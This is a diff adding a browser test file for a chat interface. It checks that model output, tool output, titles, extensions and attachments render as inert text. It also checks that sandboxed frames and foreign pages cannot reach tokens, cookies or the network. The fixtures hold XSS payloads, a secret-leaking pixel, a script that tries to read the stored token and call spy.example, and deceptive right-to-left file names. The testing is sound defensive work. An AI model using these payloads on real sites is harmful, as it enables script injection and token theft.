@@ -1,0 +1,207 @@
+import assert from 'node:assert/strict';
+import http from 'node:http';
+import test from 'node:test';
+import { answers, eventually, message, missing, say, withStage, worked } from './stage.mjs';
+
+const markdown = `<script>window.hit = 1</script> <img src=x onerror="window.hit = 2"> <svg onload="window.hit = 3">
+
+[click](javascript:window.hit=4) [data](data:text/html,<script>window.hit=5</script>) ![spy](https://spy.example/pixel.png?secret=1)
+
+<iframe srcdoc="<script>parent.hit=6</script>"></iframe> <a href="javascript:window.hit=7" onclick="window.hit=8">x</a>
+
+<https://good.example/path> [good](https://good.example "title") ![inline](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIj4=)
+
+\`\`\`html
+<script>window.hit = 9</script>
+\`\`\`
+
+| a <img src=x onerror=window.hit=10> | b |
+| - | - |
+| [x](vbscript:window.hit=11) | &lt;script&gt; |
+`;
+
+if (missing) test(`the page (skipped: ${missing})`, { skip: true });
+else {
+  const it = withStage();
+
+  async function threadWith(...turns) {
+    const { id } = await it.thread();
+    for (const turn of turns) await it.api('POST', `/threads/${id}/turns`, turn);
+    return id;
+  }
+
+  /** Opens the thread and remembers what is asked of other hosts. */
+  async function openHostile(id) {
+    const page = await it.open('/chats');
+    const foreign = [];
+    page.on('request', (request) => new URL(request.url()).origin !== it.line.url && !request.url().startsWith('data:') && foreign.push(request.url()));
+    await page.goto(`${it.line.url}/ui/#/t/${id}`);
+    await page.getByRole('article').first().waitFor();
+    return { page, foreign };
+  }
+
+  async function harmless({ page, foreign }) {
+    await page.waitForTimeout(300);
+    assert.equal(await page.evaluate(() => window.hit), undefined);
+    assert.deepEqual(foreign, []);
+    const found = await page.getByRole('log').evaluate((log) => ({
+      elements: log.querySelectorAll('script, iframe, object, embed, form, svg[onload], img').length,
+      links: [...log.querySelectorAll('a')].map((a) => a.getAttribute('href')),
+      handlers: [...log.querySelectorAll('*')].filter((element) => [...element.attributes].some(({ name }) => name.startsWith('on'))).length,
+    }));
+    assert.equal(found.elements, 0);
+    assert.equal(found.handlers, 0);
+    for (const link of found.links) assert.match(link, /^(https:|http:|mailto:|#\/)/);
+    return found;
+  }
+
+  test('Markdown of a model is text, links that are safe, and no remote image', async () => {
+    const opened = await openHostile(await threadWith({ role: 'assistant', content: markdown }));
+    const { links } = await harmless(opened);
+    assert.ok(links.includes('https://spy.example/pixel.png?secret=1'), 'a remote image is a link');
+    await opened.page.getByText('<script>window.hit = 1</script>').first().waitFor();
+    for (const link of await opened.page.getByRole('log').getByRole('link').all()) {
+      if ((await link.getAttribute('target')) === '_blank') assert.match(await link.getAttribute('rel'), /noopener noreferrer/);
+    }
+  });
+
+  test('the same while it streams', async () => {
+    const page = await it.open();
+    const foreign = [];
+    page.on('request', (request) => new URL(request.url()).origin !== it.line.url && !request.url().startsWith('data:') && foreign.push(request.url()));
+    await it.stage.reply({ text: markdown, deltas: 200, rate: 400 });
+    await say(page, 'Be evil');
+    await page.getByText('stub/talker-1').waitFor();
+    await harmless({ page, foreign });
+  });
+
+  test('output, names and input of tools are text', async () => {
+    const metadata = { run_id: 'r1', tool_call_id: 'c1', tool_name: '<img src=x onerror=window.hit=1>', is_error: true, input: { path: 'a\u202Efdp.exe', command: '<b>x</b>' } };
+    const opened = await openHostile(await threadWith(
+      { role: 'tool', content: `${markdown}\u001b[31mred\u202Eevil`, metadata },
+      { role: 'assistant', content: 'Done.', metadata: { run_id: 'r1', steps: [{ text_end: 0, tool_call_ids: ['c1'] }] } },
+    ));
+    await harmless(opened);
+    await opened.page.getByText('a⟨U+202E⟩fdp.exe').first().waitFor();
+    await opened.page.getByText('⟨U+001B⟩[31mred⟨U+202E⟩evil').first().waitFor();
+  });
+
+  test('titles, names and descriptions are text, with what deceives written out', async () => {
+    const { id } = await it.thread({ title: '<img src=x onerror=window.hit=1>\u202Etxt.exe' });
+    await it.api('POST', '/extensions', { type: 'command', name: 'evil', description: '<script>window.hit=2</script>\u202E', definition: { prompt: 'x' } });
+    const page = await it.open(`/t/${id}`);
+    await page.getByText('<img src=x onerror=window.hit=1>⟨U+202E⟩txt.exe').first().waitFor();
+    await page.goto(`${it.line.url}/ui/#/extensions?type=command`);
+    await page.getByText('<script>window.hit=2</script>⟨U+202E⟩').waitFor();
+    assert.equal(await page.evaluate(() => window.hit), undefined);
+  });
+
+  for (const [what, content] of [
+    ['a line of 5 MB', 'x'.repeat(5_000_000)],
+    ['100,000 list items', '- item\n'.repeat(100_000)],
+    ['deep nesting', `${'>'.repeat(20_000)} deep ${'['.repeat(20_000)}${'*_'.repeat(20_000)}`],
+    ['a table of 20,000 rows', `| a | b |\n| - | - |\n${'| 1 | 2 |\n'.repeat(20_000)}`],
+  ]) {
+    test(`${what} does not hold up the page`, async () => {
+      const id = await threadWith({ role: 'assistant', content }, { role: 'tool', content, metadata: { tool_name: 'Read', is_error: true } });
+      const page = await it.open('/chats');
+      await page.getByRole('heading', { level: 1 }).first().waitFor();
+      const work = await worked(page);
+      await page.evaluate((hash) => (location.hash = hash), `#/t/${id}`);
+      await page.getByRole('button', { name: /Show more/ }).first().waitFor();
+      await message(page).fill('still alive');
+      const took = await work();
+      console.log(`# ${what}: ${took} ms of work`);
+      assert.ok(took < 2000, `${took} ms of work`);
+    });
+  }
+
+  test('an extension’s frame reaches nothing: no storage, page, network, navigation', async () => {
+    const evil = `<pre id="out"></pre><script>
+      const out = [];
+      const attempt = async (name, work) => { try { await work(); out.push(name + ' REACHED'); } catch (error) { out.push(name + ' refused'); } };
+      addEventListener('gateway', async () => {
+        await attempt('storage', () => localStorage.getItem('agw.token').length);
+        await attempt('cookie', () => { document.cookie = 'a=b'; if (!document.cookie) throw 0; });
+        await attempt('page', () => parent.document.body.innerHTML.length);
+        await attempt('token', () => parent.localStorage.length);
+        await attempt('network', () => fetch('/health').then((answer) => answer.text()));
+        await attempt('elsewhere', () => fetch('https://spy.example/'));
+        await attempt('top', () => { top.location.href = 'https://spy.example/'; });
+        await attempt('popup', () => { if (!open('https://spy.example/')) throw 0; });
+        gateway.resize(1e9);
+        gateway.action('current-time', {});
+        parent.postMessage({ action: 'calculate', input: { expression: '1' } }, '*');
+        document.getElementById('out').textContent = out.join('\\n') + '\\norigin ' + origin;
+      });
+    </script>`;
+    await it.api('POST', '/extensions', { type: 'renderer', name: 'evil-renderer', description: 'd', enabled: true, definition: { match: { language: 'evil' }, html: evil } });
+    const page = await it.open(`/t/${await threadWith({ role: 'assistant', content: '```evil\nsome content\n```' })}`);
+    it.tolerated.push(/sandboxed|Blocked|frame|CSP: (connect-src|frame-src)|violates the following Content Security Policy|Unsafe attempt|Refused to connect/);
+    const out = page.frameLocator('iframe').locator('#out');
+    await eventually(async () => assert.match((await out.textContent()) ?? '', /origin null/));
+    assert.doesNotMatch(await out.textContent(), /REACHED/);
+    assert.ok((await page.locator('iframe').boundingBox()).height <= 800);
+    assert.equal(await page.getByRole('dialog').count(), 0, 'an action that is not declared is not even asked about');
+    assert.match(page.url(), /#\/t\//);
+  });
+
+  test('a theme that cannot be read is refused in words; one that can applies at once and after a reload', async () => {
+    const theme = (name, colors) => it.api('POST', '/extensions', { type: 'theme', name, description: 'd', enabled: true, definition: { dark: false, colors } });
+    await theme('grey-on-grey', { background: '#888888', text: '#999999' });
+    await theme('paper', { background: '#fffbe6', text: '#222222', accent: '#7a1f00', 'on-accent': '#ffffff' });
+    const page = await it.open('/extensions?type=theme');
+    await page.getByRole('radio', { name: 'grey-on-grey' }).check();
+    await page.getByText(/text on background has a contrast of/).waitFor();
+    await page.getByRole('radio', { name: 'paper' }).check();
+    const ground = () => page.evaluate(() => getComputedStyle(document.documentElement).backgroundColor);
+    assert.equal(await ground(), 'rgb(255, 251, 230)');
+    await page.reload();
+    assert.equal(await ground(), 'rgb(255, 251, 230)');
+  });
+
+  test('a token in the address is not taken', async () => {
+    const page = await it.fresh();
+    await page.goto(`${it.url}/ui/?token=${it.token}#/chats?token=${it.token}`);
+    await page.getByRole('textbox', { name: 'Code' }).waitFor();
+  });
+
+  test('a foreign page can neither frame the page, nor post to it, nor open its socket', async () => {
+    const server = http.createServer((_, answer) => answer.writeHead(200, { 'content-type': 'text/html' }).end('<body></body>'));
+    await new Promise((listening) => server.listen(0, '127.0.0.1', listening));
+    try {
+      const page = await it.fresh();
+      it.tolerated.push(/CORS policy|frame-ancestors|Refused to (frame|display)|Framing|status of 403|ERR_FAILED/);
+      await page.goto(`http://127.0.0.1:${server.address().port}/`);
+      const reached = await page.evaluate(async ([url, token]) => {
+        const frame = document.createElement('iframe');
+        frame.src = `${url}/ui/`;
+        document.body.append(frame);
+        const post = await fetch(`${url}/chat`, { method: 'POST', headers: { authorization: `Bearer ${token}` }, body: '{"content":"x"}' }).then(() => true, () => false);
+        const plain = await fetch(`${url}/chat`, { method: 'POST', mode: 'no-cors', body: '{"content":"x"}' }).then((answer) => answer.type, () => 'failed');
+        const socket = await new Promise((told) => {
+          const line = new WebSocket(`${url.replace('http', 'ws')}/ws`, ['bearer', token]);
+          line.onopen = () => told(true);
+          line.onclose = () => told(false);
+        });
+        return { post, plain, socket };
+      }, [it.url, it.token]);
+      assert.equal(reached.post, false);
+      assert.equal(reached.socket, false);
+      const framed = page.frames().find((frame) => frame !== page.mainFrame());
+      await eventually(async () => assert.doesNotMatch((await framed?.content().catch(() => '')) ?? '', /id="page"/));
+      assert.deepEqual((await it.api('GET', '/threads')).filter(({ title }) => title === 'x'), []);
+    } finally {
+      server.close();
+    }
+  });
+
+  test('an attachment is named as text and sent', async () => {
+    const page = await it.open();
+    await page.locator('input[type=file]').setInputFiles({ name: '<b>evil</b>.txt', mimeType: 'text/plain', buffer: Buffer.from('content') });
+    await page.getByText('<b>evil</b>.txt').waitFor();
+    await it.stage.reply({ text: 'Read it.' });
+    await say(page, 'See the file');
+    await answers(page).getByText('Read it.').waitFor();
+  });
+}
